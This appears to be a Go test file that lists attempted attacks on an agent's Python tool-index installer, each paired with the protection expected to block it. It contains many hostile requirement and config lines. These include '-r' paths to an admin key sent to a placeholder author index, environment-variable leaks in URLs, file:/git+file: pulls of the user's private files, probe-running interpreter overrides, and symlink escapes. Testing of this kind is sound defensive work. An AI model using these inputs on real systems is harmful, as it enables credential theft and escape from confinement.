package attacks_test

import (
	"fmt"
	"iter"
	"maps"
	"path/filepath"
	"slices"
	"strings"
)

// recipe is an index and its installation. Texts of its files have the placeholders of [attempted.fill]:
// {author}, {id}, {data}, {planted}, {target}, {probe WHERE ACT…}. A text that begins with "link: " makes a link.
type recipe struct {
	name    string
	files   map[string]string
	env     []string // of mesh install
	tool    string   // the called tool, by default m.hello
	served  bool     // installed from a repository, else from a folder
	prepare func(c *attempted)
	// refused: the install must be refused for its dependency files.
	refused bool
	// spelling: another spelling of another recipe's attempt, installed only in the soak. Tests of venv
	// (TestRefusedRequirements, TestDependenciesInTheTree, TestHashesAreHeldTo) and of executor
	// (TestBuildGivesOnlyAWheel, TestStartUpCodeRunsConfined, TestInitCommandIsConfined,
	// TestModuleForgesFramesOfItsZygote) try it there.
	spelling bool
	// everywhere: the second node installs it, too. In the soak it installs all.
	everywhere bool
	// control is the answer of its tool: the install must succeed, and serve after a restart, too.
	control string
}

// installAttempt is a row of the table: an attempt of an index, of the author of a dependency, or of code of
// either.
type installAttempt struct {
	area, what, by    string
	root, user, alone level
	of                *recipe
	proof             func(c *attempted) string // its effect as seen from outside, empty for none
}

// promise is the level from which on an attempt is stopped, for each kind of agent.
type promise struct{ root, user, alone level }

var (
	always   = promise{none, none, none}
	confined = promise{guard, guard, guard}
	byUser   = promise{guard, never, never} // stopped by a user of its own
	bySpaces = promise{guard, guard, never} // stopped by namespaces
)

// installTable collects recipes and rows.
type installTable struct {
	recipes []*recipe
	rows    []installAttempt
}

var recipes, installAttempts = func() ([]*recipe, []installAttempt) {
	t := &installTable{}
	t.dependencyFiles()
	t.settingsOfUV()
	t.fetches()
	t.environments()
	t.links()
	t.builds()
	t.credentials()
	t.protocol()
	t.controls()
	return t.recipes, t.rows
}()

func (t *installTable) recipe(r recipe) *recipe {
	t.recipes = append(t.recipes, &r)
	return &r
}

func (t *installTable) row(area, what, by string, p promise, of *recipe, proofs ...func(*attempted) string) {
	t.rows = append(t.rows, installAttempt{area, what, by, p.root, p.user, p.alone, of, func(c *attempted) string {
		var all []string
		for _, proof := range proofs {
			if is := proof(c); is != "" {
				all = append(all, is)
			}
		}
		return strings.Join(all, "; ")
	}})
}

// Proofs, from outside.

func leaks(c *attempted) string   { return few(c.leaks) }
func altered(c *attempted) string { return few(c.changed) }
func remains(c *attempted) string { return few(c.left) }
func argued(c *attempted) string  { return few(c.argv) }

func few(all []string) string {
	if len(all) > 3 {
		return fmt.Sprintf("%s; and %d more", strings.Join(all[:3], "; "), len(all)-3)
	}
	return strings.Join(all, "; ")
}

func installed(c *attempted) string {
	if c.ok {
		return "it is installed"
	}
	return ""
}

// asksAuthor returns requests to the address that only the index names.
func asksAuthor(c *attempted) string {
	asked, _ := c.author.took()
	return few(slices.DeleteFunc(asked, func(one string) bool { return !strings.Contains(one, "/c/"+c.id+"/") }))
}

func answers(text string) func(*attempted) string {
	return func(c *attempted) string {
		if strings.Contains(c.answer, text) {
			return "its tool answers " + c.answer
		}
		return ""
	}
}

// unconfined returns reports of code that ran with the agent's user, namespace or keys.
func unconfined(wheres ...string) func(*attempted) string {
	return func(c *attempted) string {
		var all []string
		for _, one := range c.said("") {
			free := one.Read["key"] != "" || c.root && one.UID == c.user || !c.alone && one.PIDNS == c.pidns
			if free && (len(wheres) == 0 || slices.Contains(wheres, one.Where)) {
				all = append(all, fmt.Sprintf("%s ran as user %d, key read %t, agent's namespace %t, %v", one.Where, one.UID, one.Read["key"] != "", one.PIDNS == c.pidns, one.Argv))
			}
		}
		return few(all)
	}
}

// readsOf returns reports from a place that have the content of a protected file.
func readsOf(where string, names ...string) func(*attempted) string {
	return func(c *attempted) string {
		var all []string
		for _, one := range c.said(where) {
			for _, name := range slices.Sorted(maps.Keys(one.Read)) {
				if slices.ContainsFunc(names, func(want string) bool {
					return name == want || strings.HasSuffix(want, " ") && strings.HasPrefix(name, want)
				}) {
					all = append(all, fmt.Sprintf("%s reads %s", one.Where, name))
				}
			}
		}
		return few(all)
	}
}

func writesOf(where string, names ...string) func(*attempted) string {
	return func(c *attempted) string {
		var all []string
		for _, one := range c.said(where) {
			for _, name := range one.Wrote {
				if slices.Contains(names, name) {
					all = append(all, fmt.Sprintf("%s writes %s", where, name))
				}
			}
		}
		return few(all)
	}
}

const (
	hello   = "def hello() -> str:\n    return \"hello\"\n"
	tooltml = "[index]\ntools = [\"m.hello\"]\n"
)

// plain is an index of one function, with more files.
func plain(more map[string]string) map[string]string {
	files := map[string]string{"tools.toml": tooltml, "m.py": hello}
	maps.Copy(files, more)
	return files
}

// requiring is an index of a kind, with lines of requirements where that kind has them.
func requiring(kind string, lines ...string) map[string]string {
	requirements := strings.Join(lines, "\n") + "\n"
	var quoted []string
	for _, line := range lines {
		quoted = append(quoted, fmt.Sprintf("%q", line))
	}
	list := strings.Join(quoted, ", ")
	switch kind {
	case "script":
		return map[string]string{"m.py": "# /// script\n# dependencies = [" + list + "]\n# ///\n" + hello}
	case "entry points":
		return map[string]string{"m.py": hello, "pyproject.toml": "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [" + list + "]\n[project.entry-points.\"toolmesh.tools\"]\n\"m.hello\" = \"m:hello\"\n"}
	case "TOOLS.yml":
		return map[string]string{"m.py": hello, "TOOLS.yml": "tools:\n- m.hello\n", "requirements.txt": requirements}
	case "command":
		return map[string]string{
			"tools.toml":       "[index]\ndescription = \"x\"\n[tool.\"m.hello\"]\ncommand = [\"python\", \"-c\", \"print('\\\"hello\\\"')\"]\n",
			"requirements.txt": requirements,
		}
	}
	return plain(map[string]string{"requirements.txt": requirements})
}

var kinds = []string{"functions", "script", "entry points", "TOOLS.yml", "command"}

func (t *installTable) dependencyFiles() {
	const area, by = "dependency files", "the agent reads them first"
	// attempt adds a recipe that the agent refuses before any other program reads it.
	attempt := func(spelling bool, what string, files map[string]string, proofs ...func(*attempted) string) {
		t.row(area, what, by, always, t.recipe(recipe{name: what, files: files, refused: true, spelling: spelling}), append(proofs, leaks, altered, asksAuthor)...)
	}
	refused := func(what string, files map[string]string) { attempt(false, what, files) }
	for depth, how := range []string{"../../../keys/admin.nk", "../../keys/admin.nk", "{data}/keys/admin.nk"} {
		attempt(depth > 0, fmt.Sprintf("send the administrator's key to a server of the author's (`--index-url`, `-r`, %s)", []string{"from the fetched tree", "from the copy of it", "absolute"}[depth]),
			requiring("", "--index-url {author}/simple", "-r "+how))
	}
	attempt(true, "send the key to another server of the author's (`--extra-index-url`)", requiring("", "--extra-index-url {author}/simple", "-r {data}/keys/admin.nk"))
	whole := []int{0, 7, 8, 10, 15, 17, 18, 22} // the others are spellings
	sent := []struct{ what, line string }{
		{"send a word of a file of the agent's user as a package's name, to the agent's own package index", "-r {planted}/word.txt"},
		{"the same by `--requirement=`", "--requirement={planted}/word.txt"},
		{"without a space", "-r{planted}/word.txt"},
		{"in quotes", "-r \"{planted}/word.txt\""},
		{"by a file URL", "-r file://{planted}/word.txt"},
		{"over two lines", "-r \\\n{planted}/word.txt"},
		{"by `../`", "-r ../../../../../planted/{id}/word.txt"},
		{"show lines of one in the error", "-r {planted}/text.txt"},
		{"by `-c`", "honest\n-c {planted}/text.txt"},
		{"by `--constraint=`", "honest\n--constraint={planted}/text.txt"},
		{"install a file of the agent's user (`file:`)", "{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl"},
		{"by its path", "{planted}/wheels/{id}priv-1-py3-none-any.whl"},
		{"by a relative path", "../../../../../planted/{id}/wheels/{id}priv-1-py3-none-any.whl"},
		{"by `--find-links`", "--find-links {planted}/wheels\n{id}priv"},
		{"by `-f`", "-f file://{planted}/wheels\n{id}priv"},
		{"build a folder of the agent's user", "{id}priv @ file://{planted}/folder"},
		{"use it where it lies (`-e`)", "-e {planted}/folder"},
		{"clone a repository of the agent's user (`git+file:`)", "{id}priv @ git+file://{planted}/repository"},
		{"take a package index of the author's (`--index-url`)", "--index-url {author}/simple\nhonest"},
		{"by `-i`", "-i {author}/simple\nhonest"},
		{"by `--extra-index-url`", "--extra-index-url {author}/simple\nhonest"},
		{"by `--find-links` with an address", "--find-links {author}/simple/honest/\nhonest"},
		{"read requirements from an address", "-r {author}/files/requirements.txt"},
		{"read constraints from an address", "honest\n-c {author}/files/constraints.txt"},
	}
	for i, one := range sent {
		attempt(!slices.Contains(whole, i), one.what, requiring("", one.line))
	}
	for i, line := range []string{"--config-settings=x=y", "--global-option=x", "--no-index", "--trusted-host 127.0.0.1", "--unknown"} {
		attempt(i > 0, "give an option, `"+line+"`", requiring("", line, "honest"), installed)
	}
	for i, name := range []string{"UV_ATTACKED", "PIP_ATTACKED", "GIT_ATTACKED", "XDG_ATTACKED", "ATTACKED"} {
		attempt(i > 0, "send a variable of the agent, `${"+name+"}`", requiring("", "x @ {author}/${"+name+"}/x-1-py3-none-any.whl"))
	}
	attempt(true, "name a file by `${HOME}`", requiring("", "-r ${HOME}/../planted/{id}/word.txt"))
	for _, kind := range []string{"script", "entry points", "TOOLS.yml", "command"} {
		refused("an index of the kind "+kind+": install a file of the agent's user", requiring(kind, "{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl"))
		attempt(true, "clone a repository of the agent's user, "+kind, requiring(kind, "{id}priv @ git+file://{planted}/repository"))
		attempt(true, "send a variable of the agent, "+kind, requiring(kind, "x @ {author}/${UV_ATTACKED}/x-1-py3-none-any.whl"))
	}
	t.row(area, "build a package in the tree with files of the agent's user (`build-system.requires`)", "builds see their own", confined, t.recipe(recipe{name: "build-system.requires", files: plain(map[string]string{
		"requirements.txt": "./lib\n", "lib/b.py": backend("mylib", "mylib", ""),
		"lib/pyproject.toml": strings.Replace(project("mylib"), "requires = []", "requires = [\"{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\"]", 1),
	})}), leaks, altered)
	refused("have a package in the tree depend on a file of the agent's user", plain(map[string]string{
		"requirements.txt": "./lib\n", "lib/b.py": backend("mylib", "mylib", ""),
		"lib/pyproject.toml": project("mylib", "dependencies = [\"{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\"]\n"),
	}))
	refused("name it in its sources (`tool.uv.sources`)", plain(map[string]string{
		"requirements.txt": "./lib\n", "lib/b.py": backend("mylib", "mylib", ""),
		"lib/pyproject.toml": project("mylib", "dependencies = [\"{id}priv\"]\n") + "[tool.uv.sources]\n{id}priv = { path = \"{planted}/wheels/{id}priv-1-py3-none-any.whl\" }\n",
	}))
	// A package's own metadata, which no file of the index shows.
	t.row(area, "have a package by address require a file of the agent's user", "resolving sees the index alone", promise{guard, never, never}, t.recipe(recipe{
		name: "transitive", files: requiring("", "{id}far @ {author}/files/{id}far-1-py3-none-any.whl"), prepare: func(c *attempted) {
			file, data := wheel(c.id+"far", nil, c.fill("Requires-Dist: {id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\n"))
			c.author.publish(c.id+"far", file, data)
		},
	}), leaks, altered)
	t.row(area, "the same of what a backend says", "resolving sees the index alone", confined, t.recipe(recipe{
		name: "transitive of a backend", files: requiring("", "{id}far"), prepare: func(c *attempted) {
			file, data := sdist(c.id+"far", backend(c.id+"far", "far", "", c.fill("{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl")), "dynamic = [\"dependencies\"]\n")
			c.author.publish(c.id+"far", file, data)
		},
	}), leaks, altered)
	for what, files := range inOrder(map[string]map[string]string{
		"have `requirements.txt` be a link out of the tree":         plain(map[string]string{"requirements.txt": "link: {data}/keys/admin.nk"}),
		"have a folder be a link to `/`, and require what is there": plain(map[string]string{"lib": "link: /", "requirements.txt": "-r lib{planted}/word.txt\n"}),
		"link over a link": plain(map[string]string{"a/b": "link: ..", "a/c": "link: b/../../..", "requirements.txt": "-r a/c/word.txt\n"}),
		"have a module be a link to a file of the agent's user": plain(map[string]string{"w.txt": "link: {planted}/word.txt"}),
	}) {
		for _, served := range []bool{false, true} {
			where := map[bool]string{false: "in a folder", true: "in a repository"}[served]
			r := t.recipe(recipe{name: what + ", " + where, files: files, served: served, spelling: served && !strings.HasPrefix(what, "link over")})
			t.row(area, what+", "+where, "bundles take no link that leads out", always, r, leaks, altered, installed)
		}
	}
}

func (t *installTable) fetches() {
	const area, by = "fetches", "git runs apart, as a user of its own"
	r := t.recipe(recipe{name: "fetched", files: plain(nil), served: true, everywhere: true, prepare: func(c *attempted) {
		write(c.t, filepath.Join(c.dir, "bin", c.id+".py"), c.fill("{probe git}\n"), 0o644)
	}})
	t.row(area, "have git run code of the server that it fetches the index from, as the agent", by, confined, r, unconfined("git"))
	t.row(area, "find variables of the agent in git's own", by, always, r, readsOf("git", "own environment agentenv"))
}

func (t *installTable) settingsOfUV() {
	const area, by = "settings of uv", "standard keys alone are taken"
	// One of each kind, and those that no refusal stops.
	whole := []string{"take an index of the author's, in `uv.toml`", "write to a folder", "have programs", "take hashes", "have its environment", "choose another", "configure pip", "take a file of the agent's user as", "take an index of the author's (", "have a program run"}
	own := func(what string, more map[string]string, proofs ...func(*attempted) string) {
		spelling := !slices.ContainsFunc(whole, func(begins string) bool { return strings.HasPrefix(what, begins) })
		t.row(area, what, by, always, t.recipe(recipe{name: what, files: plain(more), spelling: spelling}), append(proofs, leaks, altered)...)
	}
	pyproject := func(dependencies, tool string) map[string]string {
		return map[string]string{"pyproject.toml": "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [" + dependencies + "]\n" + tool}
	}
	own("take an index of the author's, in `uv.toml`", map[string]string{"requirements.txt": "honest\n", "uv.toml": "index-url = \"{author}/simple\"\n"}, asksAuthor)
	own("add one in `uv.toml`", map[string]string{"requirements.txt": "honest\n", "uv.toml": "extra-index-url = [\"{author}/simple\"]\n"}, asksAuthor)
	own("the same in `[[index]]` of it", map[string]string{"requirements.txt": "honest\n", "uv.toml": "[[index]]\nurl = \"{author}/simple\"\ndefault = true\n"}, asksAuthor)
	own("find wheels of the agent's user, in `uv.toml`", map[string]string{"requirements.txt": "{id}priv\n", "uv.toml": "find-links = [\"{planted}/wheels\"]\n"})
	own("constrain by files of the agent's user, in `uv.toml`", map[string]string{"requirements.txt": "{id}priv\n", "uv.toml": "override-dependencies = [\"{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\"]\n"})
	own("write to a folder of the agent (`pip.target` in `uv.toml`)", map[string]string{"requirements.txt": "honest\n", "uv.toml": "[pip]\ntarget = \"{target}/folder\"\n"})
	own("by `pip.prefix`", map[string]string{"requirements.txt": "honest\n", "uv.toml": "[pip]\nprefix = \"{target}/folder\"\n"})
	own("overwrite a file of the agent (`pip.output-file`)", map[string]string{"requirements.txt": "honest\n", "uv.toml": "[pip]\noutput-file = \"{target}/file\"\n"})
	own("move uv's cache to a folder of the agent (`cache-dir`)", map[string]string{"requirements.txt": "honest\n", "uv.toml": "cache-dir = \"{target}/folder\"\n"})
	own("have programs of its own run as its Python (`pip.python`)", map[string]string{
		"requirements.txt": "honest\n", "uv.toml": "[pip]\npython = \"./p\"\n", "p": "#!/bin/sh\n/usr/bin/python3 -c '{probe uv}'\nexec /usr/bin/python3 \"$@\"\n",
	}, unconfined("uv"))
	own("take hashes for optional (`pip.verify-hashes`)", map[string]string{
		"requirements.txt": "honest==1 --hash=sha256:" + strings.Repeat("0", 64) + "\n", "uv.toml": "[pip]\nverify-hashes = false\nrequire-hashes = false\n",
	}, installed)
	second := requiring("", "honest==1 --hash=sha256:"+strings.Repeat("0", 64))
	t.row(area, "for another index, which has the same lock", by, always, t.recipe(recipe{name: "optional hashes, second", files: second}), installed)
	own("have its environment consist of links into the cache (`link-mode`)", map[string]string{"requirements.txt": "honest\n", "uv.toml": "link-mode = \"symlink\"\n"}, linked)
	own("choose another Python (`.python-version`)", map[string]string{"requirements.txt": "honest\n", ".python-version": "{planted}/word.txt\n"})
	own("configure pip (`pip.conf`, `setup.cfg`)", map[string]string{
		"requirements.txt": "honest\n", "pip.conf": "[global]\nindex-url = {author}/simple\n", "setup.cfg": "[easy_install]\nindex_url = {author}/simple\n",
	}, asksAuthor)
	for _, one := range []struct{ what, dependencies, tool string }{
		{"take a file of the agent's user as a source (`tool.uv.sources`)", `"{id}priv"`, "[tool.uv.sources]\n{id}priv = { path = \"{planted}/wheels/{id}priv-1-py3-none-any.whl\" }\n"},
		{"a folder", `"{id}priv"`, "[tool.uv.sources]\n{id}priv = { path = \"{planted}/folder\", editable = true }\n"},
		{"a repository", `"{id}priv"`, "[tool.uv.sources]\n{id}priv = { git = \"file://{planted}/repository\" }\n"},
		{"an address that has a variable", `"x"`, "[tool.uv.sources]\nx = { url = \"{author}/${UV_ATTACKED}/x-1-py3-none-any.whl\" }\n"},
		{"take an index of the author's (`tool.uv.index`)", `"honest"`, "[[tool.uv.index]]\nname = \"a\"\nurl = \"{author}/simple\"\n[tool.uv.sources]\nhonest = { index = \"a\" }\n"},
		{"by `tool.uv.index-url`", `"honest"`, "[tool.uv]\nindex-url = \"{author}/simple\"\n"},
		{"find wheels of the agent's user (`tool.uv.find-links`)", `"{id}priv"`, "[tool.uv]\nfind-links = [\"{planted}/wheels\"]\n"},
		{"override by one (`tool.uv.override-dependencies`)", `"{id}priv"`, "[tool.uv]\noverride-dependencies = [\"{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\"]\n"},
		{"constrain by one (`tool.uv.constraint-dependencies`)", `"{id}priv"`, "[tool.uv]\nconstraint-dependencies = [\"{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl\"]\n"},
		{"be a workspace of a folder outside (`tool.uv.workspace`)", `"{id}priv"`, "[tool.uv.workspace]\nmembers = [\"../../../../../planted/{id}/folder\"]\n[tool.uv.sources]\n{id}priv = { workspace = true }\n"},
		{"overwrite a file of the agent (`tool.uv.pip.output-file`)", `"honest"`, "[tool.uv.pip]\noutput-file = \"{target}/file\"\n"},
		{"write to a folder of the agent (`tool.uv.pip.target`)", `"honest"`, "[tool.uv.pip]\ntarget = \"{target}/folder\"\n"},
		{"move uv's cache there (`tool.uv.cache-dir`)", `"honest"`, "[tool.uv]\ncache-dir = \"{target}/folder\"\n"},
		{"have a program run for passwords (`tool.uv.keyring-provider`)", `"honest"`, "[tool.uv]\nkeyring-provider = \"subprocess\"\nindex-url = \"http://a@{host}/c/{id}/simple\"\n"},
	} {
		proofs := []func(*attempted) string{}
		if strings.Contains(one.tool, "{author}") || strings.Contains(one.tool, "{host}") {
			if !strings.Contains(one.tool, "url = \"{author}/$") {
				proofs = append(proofs, asksAuthor)
			}
		}
		own(one.what, pyproject(one.dependencies, one.tool), proofs...)
	}
}

// linked sees environments that have links beside their interpreter.
func linked(c *attempted) string {
	for _, dir := range []string{"bin", "site-packages/honest"} {
		files, _ := filepath.Glob(filepath.Join(c.data, "executor", "envs", "*", "lib", "*", dir, "*.py"))
		for _, file := range files {
			if to, err := filepath.EvalSymlinks(file); err == nil && to != file {
				return file + " is a link to " + to
			}
		}
	}
	return ""
}

// inOrder goes through a map by its keys.
func inOrder(all map[string]map[string]string) iter.Seq2[string, map[string]string] {
	return func(yield func(string, map[string]string) bool) {
		for _, key := range slices.Sorted(maps.Keys(all)) {
			if !yield(key, all[key]) {
				return
			}
		}
	}
}
